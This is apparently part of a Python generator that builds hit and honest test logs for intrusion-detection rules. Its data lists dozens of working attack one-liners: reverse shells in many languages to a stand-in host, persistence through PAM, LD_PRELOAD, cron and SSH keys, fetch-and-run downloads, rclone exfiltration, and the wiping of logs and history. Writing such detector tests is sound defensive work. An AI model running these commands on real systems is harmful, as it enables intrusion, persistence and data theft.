    ("reverse_shell_script_language", 'ruby -rsocket -e \'c=TCPSocket.new("192.0.2.7","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\''),
    ("reverse_shell_script_language", 'echo \'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","192.0.2.7:443");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}\' > /tmp/t.go && go run /tmp/t.go'),
    ("reverse_shell_netcat", "rm -f /tmp/f;mknod /tmp/f p;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 443 >/tmp/f"),
    ("reverse_shell_netcat", "nc -c bash 192.0.2.7 443"),
    ("reverse_shell_dev_tcp", "/bin/bash -l > /dev/tcp/192.0.2.7/443 0<&1 2>&1"),
    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);`/bin/sh -i <&3 >&3 2>&3`;\''),
    ("reverse_shell_other_languages", 'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.7:443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\''),
    ("reverse_shell_other_languages", 'awk \'BEGIN {s = "/inet/tcp/0/192.0.2.7/443"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null'),
    ("persistence_pam_configuration", 'sudo sed -i "1s,^,auth sufficient /tmp/pam_evil.so\\n,g" /etc/pam.d/su-l'),
    ("persistence_preload_command", "LD_PRELOAD=/dev/shm/x.so ls"),
    ("edge_cisco_dual_use_command", "guestshell destroy"),
    ("edge_cisco_dual_use_command", "chvrf management ssh -l admin 10.0.0.5"),
    ("edge_cisco_dual_use_command", "copy running-config tftp://192.0.2.7/r1.cfg"),
    ("edge_cisco_dual_use_command", "copy run ftp://u:p@192.0.2.7/r1.cfg"),
    ("edge_salt_typhoon_sequence", "chvrf management ssh -l admin 10.0.0.5\ncopy running-config tftp://192.0.2.7/r1.cfg"),
    ("edge_salt_typhoon_command", "chkconfig --add sshd_operns"),
    ("edge_salt_typhoon_command", "/etc/init.d/sshd_operns start"),
    ("edge_salt_typhoon_command", "/usr/sbin/sshd -p 57722"),
    ("edge_salt_typhoon_command", "interface Tunnel9\n tunnel source Gi0/0\n tunnel destination 45.61.133.31"),
    ("exploit_panos_session_log", "failed to unmarshal session(./../../../../opt/panlogs/tmp/device_telemetry/hour/aaa`id>x`) map"),
    ("exploit_moveit_page_asked", "POST /human2.aspx HTTP/1.1\r\nHost: m.example\r\nX-siLock-Comment: 0f0f0f0f-0f0f\r\n"),
    ("exploit_web_command_answered", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /a.php?cmd=id;uname+-a HTTP/1.1" 200 54'),
    ("exploit_web_command_answered", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /a.php?cmd=cat%20..%2f..%2fetc%2fpasswd HTTP/1.1" 200 54'),
    ("exploit_web_command_asked", "GET /uploads/x.php?cmd=cat+/etc/passwd"),
    ("exploit_web_command_answered", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /a.php?cmd=id HTTP/1.1" 200 54 "-" "curl/8"'),
    ("exploit_web_command_answered", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /a.php?u=1&c=ls%20-la HTTP/1.1" 200 54'),
    ("exploit_web_command_answered", "2023-05-28 10:00:00 10.0.0.1 GET /aspnet_client/x.aspx cmd=whoami 443 - 203.0.113.9 curl/8 - 200 0 0 93"),
    ("lotl_fetch_from_paste", "wget -qO- https://pastebin.com/raw/abcd1234 | sudo bash"),
    ("lotl_fetch_from_paste", "curl -sSL https://temp.sh/x/a.sh | sudo -E bash -"),
    ("lotl_fetch_from_paste", 'bash -c "$(curl -fsSL https://x1y2z3.trycloudflare.com/i)"'),
    ("lotl_fetch_from_paste", "bash <(curl -s https://paste.ee/r/abc)"),
    ("lotl_fetch_from_address", "curl -sL https://192.0.2.7/x.sh | bash"),
    ("lotl_fetch_from_address", "bash <(curl -s http://192.0.2.7:8000/x.sh)"),
    ("lotl_fetch_from_address", 'sh -c "$(wget -qO- http://192.0.2.7/x)"'),
    ("tunnel_gsocket", 'bash -c "$(curl -fsSL https://gsocket.io/y)"'),
    ("tunnel_gsocket", "curl -fsSL https://gsocket.io/x | bash"),
    ("tunnel_gsocket", "gs-netcat -s MySecret -l"),
    ("tunnel_gsocket", "gs-netcat -s MySecret -l\r"),
    ("tunnel_gsocket", 'GS_ARGS="-k /usr/bin/defunct.dat -liqD" /bin/bash -c "exec -a \'[kcached]\' /usr/bin/defunct"'),
    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);exec("sh <&3 >&3 2>&3");\''),
    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);shell_exec("sh <&3 >&3 2>&3");\''),
    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);system("/bin/bash <&3 >&3 2>&3");\''),
    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);`sh <&3 >&3 2>&3`;\''),
    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);\''),
    ("reverse_shell_script_language", 'php -r "\\$sock=fsockopen(\\"192.0.2.7\\",443);popen(\\"sh <&3 >&3 2>&3\\", \\"r\\");"'),
    ("implant_update_by_pasted_command", "nohup curl -L https://api.d.example/v/fix.zip -o /var/tmp/fix.zip && unzip -o /var/tmp/fix.zip -d /var/tmp/fix && bash /var/tmp/fix/run.sh >/dev/null 2>&1 &"),
    ("implant_update_by_pasted_command", "curl -k -o /var/tmp/cam.sh https://api.d.example/cam.sh && chmod +x /var/tmp/cam.sh && nohup bash /var/tmp/cam.sh >/dev/null 2>&1 &"),
    ("lotl_linux_system_program_restamped", "touch -acmr /bin/ls /usr/bin/.x"),
    ("lotl_linux_system_program_restamped", "touch --reference=/usr/bin/ls /lib/x86_64-linux-gnu/security/pam_unix.so"),
    ("lotl_linux_system_program_restamped", "touch -t 202001010101 /usr/sbin/sshd"),
    ("lotl_linux_system_program_restamped", "touch /usr/sbin/sshd -r /bin/ls"),
    ("lotl_linux_hidden_file_locked", "chattr +i /etc/cron.d/.x"),
    ("lotl_linux_hidden_file_locked", "chattr -R +ia /usr/bin/.sys/.x"),
    ("lotl_history_to_nowhere", "unset HISTFILE; export HISTSIZE=0"),
    ("lotl_history_to_nowhere", "history -c\nunset HISTFILE"),
    ("lotl_history_to_nowhere", "ln -s -f /dev/null /root/.zsh_history"),
    ("lotl_linux_journal_emptied", "journalctl --vacuum-time 1s"),
    ("lotl_linux_journal_emptied", "rm -rf /var/log/journal/*"),
    ("lotl_rclone_exfiltration", "rclone --config /tmp/.r.conf copy /srv r:x"),
    ("lotl_rclone_exfiltration", "/dev/shm/.c/rclone copy /home pcloud:h"),
    ("lotl_packed_text_to_shell", "python -c \"import base64,sys;exec(base64.b64decode({2:str,3:lambda b:bytes(b,'UTF-8')}[sys.version_info[0]]('aW1w')))\""),
    ("lotl_packed_text_to_shell", "echo aWQgPiAvdG1wL3gK | base64 -d | sh"),
    ("lotl_packed_text_to_shell", "echo 'aWQgPiAvdG1wL3gK' | openssl base64 -d | bash"),
    ("persistence_cron_decoded", "@reboot root echo aWQgPiAvdG1wL3gK|base64 --decode|/bin/bash"),
    ("persistence_authorized_key_echoed", 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 kali@kali" | tee -a ~/.ssh/authorized_keys'),
    ("persistence_authorized_key_by_service", "GET /x.php?cmd=echo%20ssh-rsa%20AAAAB3NzaC1yc2EAAAADAQAB%20x%20>>/root/.ssh/authorized_keys"),
    ("persistence_authorized_key_by_service", "CONFIG SET dir /root/.ssh/"),
    ("reverse_shell_in_audit_record", audit(["nc", "-e", "/bin/sh", "192.0.2.7", "443"])),
    ("reverse_shell_in_audit_record", audit(["sh", "-c", "nc -e /bin/bash 192.0.2.7 443"])),
    ("reverse_shell_in_audit_record", audit(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",443));os.dup2(s.fileno(),0);pty.spawn("sh")'])),
    ("reverse_shell_in_audit_record", audit(["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 443 >/tmp/f"])),
    ("reverse_shell_in_audit_record", audit(["sh", "-c", "0<&196;exec 196<>/dev/tcp/192.0.2.7/443; sh <&196 >&196 2>&196 0>&1"])),
    ("reverse_shell_in_audit_record", audit(["socat", "exec:'bash -li',pty,stderr", "tcp:192.0.2.7:443"]).split("\n")[0].replace("657865633A2762617368202D6C69272C7074792C737464657272", '"exec:bash,pty,stderr"')),
    ("lotl_in_audit_record", audit(["sh", "-c", "curl -s http://192.0.2.7/x.sh | bash"])),
    ("lotl_in_audit_record", audit(["sh", "-c", "echo /lib/x.so > /etc/ld.so.preload"])),
    ("lotl_in_audit_record", audit(["tee", "-a", "/etc/ld.so.preload"])),
    ("lotl_in_audit_record", audit(["/dev/shm/.x", "-d"])),
    ("lotl_in_audit_record", audit(["chmod", "+x", "/dev/shm/.x"])),
    ("lotl_in_audit_record", audit(["cp", "/tmp/p", "/etc/ld.so.preload"])),
]


# What administrators type.
HONEST = [
    "vssadmin list shadows",
    "vssadmin list writers",
    "wevtutil qe System /c:20 /rd:true /f:text",
    "wevtutil gl security",
    "netsh interface portproxy show all",
    "netsh interface ipv4 show config",
    "netsh advfirewall firewall add rule name=Web dir=in action=allow protocol=TCP localport=443",
    "ntdsutil files info quit quit",
    "reg save HKCU\\Software\\Example c:\\backup\\e.hiv",
    "reg query HKLM\\SYSTEM\\CurrentControlSet\\Services",
    "reg add HKCU\\Software\\Example /v Colour /t REG_SZ /d blue /f",
    "wmic logicaldisk get size,freespace,caption",
    "wmic /node:srv1 os get caption",
    "rundll32.exe printui.dll,PrintUIEntry /il",
    "schtasks /create /tn Backup /tr \"C:\\Program Files\\Backup\\b.exe\" /sc daily /ru SYSTEM",
    "sc create Agent binPath= \"C:\\Program Files\\Agent\\agent.exe\" start= auto",
    "7z a d:\\backup\\projects.7z d:\\projects",
    "certutil -hashfile setup.exe SHA256",
    "bitsadmin /list /allusers",
    "powershell -NoProfile -File C:\\Scripts\\report.ps1",
    "Get-WinEvent -LogName Security -MaxEvents 20",
    "net user alice /domain",
    "net localgroup administrators",
    "nltest /dsgetdc:corp.example",
    "tasklist /svc /fi \"imagename eq svchost.exe\"",
    "procdump.exe -ma w3wp.exe c:\\dumps",
    "ssh -L 5432:localhost:5432 db.example.org",
    "ssh -o StrictHostKeyChecking=accept-new backup@192.0.2.7 uptime",
    "socat - UNIX-CONNECT:/run/haproxy.sock",
    "nc -zv 192.0.2.7 443",
    "curl -fsSL https://get.example.org/install.sh -o install.sh",
    "wget http://192.0.2.7/backup/dump.sql.gz",
    "crontab -l",
    "(crontab -l; echo \"0 3 * * * /usr/local/bin/backup\") | crontab -",
    "useradd -m -u 1005 -s /bin/bash alice",
    "echo 'alice ALL=(ALL) ALL' > /etc/sudoers.d/alice",
    "insmod /lib/modules/6.1.0/extra/driver.ko",
    "tcpdump -i eth0 -w /var/tmp/trace.pcap port 443",
    "tar czf - /home | ssh backup@192.0.2.7 'cat > home.tgz'",
    "openssl s_client -connect www.example.org:443 -servername www.example.org",
    "journalctl --vacuum-time=7d",
    "find / -perm -4000 -type f",
    "cat /etc/passwd | cut -d: -f1",
    "chattr +i /etc/resolv.conf",
    "nohup /usr/local/bin/agent >/dev/null 2>&1 &",
    "esxcli software vib list",
    "vim-cmd vmsvc/getallvms",
    "show running-config | include logging",
    "access-list 20 permit 192.0.2.0 0.0.0.255",
    "copy running-config startup-config",
    "service sshd_operns status",
    "sshd -D -p 2222",
    "curl -fsSL https://get.docker.com | sh",
    "curl https://sh.rustup.rs -sSf | sh -s -- -y",
    "Invoke-WebRequest -Uri https://aka.ms/wsl -OutFile C:\\Windows\\Temp\\wsl.appx",
    "curl.exe -o C:\\Tools\\a.zip http://10.0.0.5/a.zip",
    "Get-MpPreference | select ExclusionPath",
    "Set-MpPreference -DisableRealtimeMonitoring $false",
    "rclone sync /srv/backup b2:backup --transfers 4",
    "rclone copy d:\\data onedrive:data",
    "touch /usr/local/bin/x",
    "touch -r /etc/motd /tmp/stamp",
    "chattr +i /var/www/html/.user.ini",
    "chattr +i /etc/.pwd.lock",
    "ln -s /dev/null ~/.mysql_history",
    "export HISTSIZE=0",
    "history -c",
    "journalctl --vacuum-size=500M",
    "echo cGFzcw== | base64 -d | sha256sum",
    "EXEC sp_configure 'xp_cmdshell', 0",
    "exec xp_cmdshell 'dir d:\\backup'",
    "cmd /c echo one ^& echo two ^> x",
    "echo \"ssh-rsa AAAA\" | ssh-keygen -lf -",
    "curl -s http://169.254.169.254/latest/meta-data/instance-id",
    "php -r '$s=fsockopen(\"192.0.2.7\",80);fwrite($s,\"GET /\");'",
    "wget https://downloads.example.org/x.zip -O /tmp/x.zip && unzip /tmp/x.zip -d /opt/x && bash /opt/x/install.sh",
    "python3 -c \"import base64;print(base64.b64decode('aGk='))\"",
    "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    "/usr/bin/3proxy /etc/3proxy/3proxy.cfg",
    audit(["bash", "-c", "echo > /dev/tcp/127.0.0.1/22"]),
    audit(["sh", "-c", "curl -fsSL https://get.docker.com | sh"]),
    audit(["tar", "-C", "/dev/shm", "-xf", "a b.tar"]),
    audit(["grep", "socket.socket", "a b"]),
    audit(["nc", "-z", "-v", "192.0.2.7", "443"]),
]


def write(data, *path):
    os.makedirs(os.path.dirname(os.path.join(*path)), exist_ok=True)
    with open(os.path.join(*path), "xb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def evtx(line):
    return b"\0\0\0\0" + wide(line + "\r\n")


def xml(line):
    return "<Event><EventData><Data Name='CommandLine'>%s</Data></EventData></Event>\r\n" % escape(line)


def main():
    out = sys.argv[1]
    for rule, pair in SAMPLES.items():
        for kind, (name, data) in zip(("hit", "miss"), pair):
            write(data, out, kind, rule, name)
    for n, (rule, line) in enumerate(QUOTED):
        write(evtx(line), out, "hit", rule, "%d.evtx" % n)
        write(xml(line), out, "hit", rule, "%d.xml" % n)
    for n, (rule, line) in enumerate(QUOTED + QUOTED_PLAIN):
        write(line + "\n", out, "hit", rule, "%d.log" % n)
    for n, line in enumerate(HONEST):
        write(line + "\n", out, "honest", "%d.log" % n)
        write(evtx(line), out, "honest", "%d.evtx" % n)


main()
